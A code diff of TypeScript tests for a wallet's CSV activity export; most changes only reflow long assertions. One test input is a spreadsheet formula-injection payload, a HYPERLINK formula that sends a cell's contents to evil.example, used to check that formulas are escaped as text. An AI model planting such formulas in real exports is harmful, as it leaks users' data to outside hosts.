@@ -48,7 +48,9 @@ test('money received, not confirmed: what it has not is empty', () => {
     recipients: [{ to: 'mAddress', satoshis: '5' }],
     satoshis: '5',
   };
-  expect(csvLines([received])).toBe(`2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,,,,,,,,,unknown,0.00000005,received,\r\n`);
+  expect(csvLines([received])).toBe(
+    `2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,,,,,,,,,unknown,0.00000005,received,\r\n`,
+  );
 });
 
 test('a payment that only the chain shows has no payment id, and what could not be worked out has no amount', () => {
@@ -67,7 +69,9 @@ test('a payment that only the chain shows has no payment id, and what could not 
     `2026-11-21T04:05:06.007Z,sent,COMPLETED,,mAddress,,,5,12,${TXID},812345,,,,,,,,,,unknown,0.00000005,payment,\r\n`,
   );
   const unread: ExportedActivity = { ...restored, isUnverified: true, feeSatoshis: null, recipients: [] };
-  expect(csvLines([unread])).toBe(`2026-11-21T04:05:06.007Z,unknown,COMPLETED,,,,,,,${TXID},812345,,,,,,,,,,unknown,,unknown,\r\n`);
+  expect(csvLines([unread])).toBe(
+    `2026-11-21T04:05:06.007Z,unknown,COMPLETED,,,,,,,${TXID},812345,,,,,,,,,,unknown,,unknown,\r\n`,
+  );
 });
 
 test('what it was worth then: what was asked, or what money cost when it was seen arriving; else nothing', () => {
@@ -177,8 +181,9 @@ test.each([
   '=HYPERLINK("https://evil.example?"&A1,"x")',
 ])('a formula is made text: %j', (buttonId) => {
   const [, cell = ''] =
-    /article-0,(.*)$/s.exec(csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,,,0\.10,USD,,asked,0\.002,payment,\r\n$/, '')) ??
-    [];
+    /article-0,(.*)$/s.exec(
+      csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,,,0\.10,USD,,asked,0\.002,payment,\r\n$/, ''),
+    ) ?? [];
   expect(cell.replace(/^"/, '').startsWith(`'${buttonId[0]}`)).toBe(true);
 });
 
